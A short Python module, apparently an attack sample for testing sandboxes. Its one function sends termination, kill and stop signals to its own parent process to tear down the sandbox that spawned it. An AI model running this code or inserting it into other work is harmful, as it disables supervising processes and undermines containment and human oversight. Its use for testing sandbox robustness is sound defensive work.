"""Kills the process that forked it, and with it the sandbox of all that follow."""
import os
import signal

def attack():
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, 0):
        try:
            os.kill(os.getppid(), number)
            return number
        except OSError as error:
            last = error
    raise last
